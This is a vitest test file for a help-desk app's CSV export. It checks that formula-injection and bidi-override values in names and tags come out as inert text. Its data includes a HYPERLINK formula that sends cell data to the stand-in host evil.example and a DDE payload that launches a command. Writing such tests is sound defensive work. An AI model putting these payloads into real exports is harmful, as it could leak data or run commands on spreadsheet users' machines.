import { expect, it } from 'vitest'
import { readTable } from '../csv.ts'
import { deskWorld } from '../desk.ts'
import { onBothEngines } from '../engines.ts'

const link = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
const names = [
  link,
  `@SUM(1)*cmd|' /C calc'!A0`,
  '+49-1+cmd',
  '-2+3',
  `Ann";${link}`,
  `Ann\r\n${link},"x"`,
  `\u200b${link}`,
  `\u202e${link}`,
  'Ann\u202e"),"moc.elpmaxe',
]

/** What a spreadsheet runs when a cell begins with it, whichever of these signs it parts cells by. */
const runs = /(^|[;\t\r\n])[\s\p{Cf}]*[=+\-@]/u
const turns = /[\u202a-\u202e\u2066-\u2069]/

onBothEngines((databaseUrl) => {
  it('a name that is a formula, breaks the line or turns the text around is one cell of text in the extract', async () => {
    const it = await deskWorld({ databaseUrl: await databaseUrl() })
    const { browser, call } = await it.agent({ role: 'manager' })
    for (const name of names) await it.customer().says('Hello', { name })
    await call('POST', '/tags', { name: '=1+1' })
    const [row] = await it.conversations()
    await call('PUT', `/conversations/${row!.id}/tags`, { tags: ['=1+1'] })
    await call('PATCH', '/channels/web', { name: link })
    await call('PATCH', '/teams/support', { name: '=1+1' })

    const today = new Date().toISOString().slice(0, 10)
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)
    for (const [file, lines] of [
      ['conversations', names.length],
      ['audit', 5],
    ] as const) {
      const path = `/api/v1/extract/${file}.csv?from=${yesterday}&to=${today}`
      const answer = await browser.api(it.portal() + path)
      const table = readTable(answer.body)
      expect([file, table.length >= lines]).toEqual([file, true])
      for (const cell of table.flatMap((line) => Object.values(line))) {
        expect(cell).not.toMatch(runs)
        expect(cell).not.toMatch(turns)
      }
      if (file === 'conversations') {
        expect(table).toHaveLength(names.length)
        expect(table.map((line) => line.customer_name)).toContain(`'${link}`)
      }
    }
  })
})
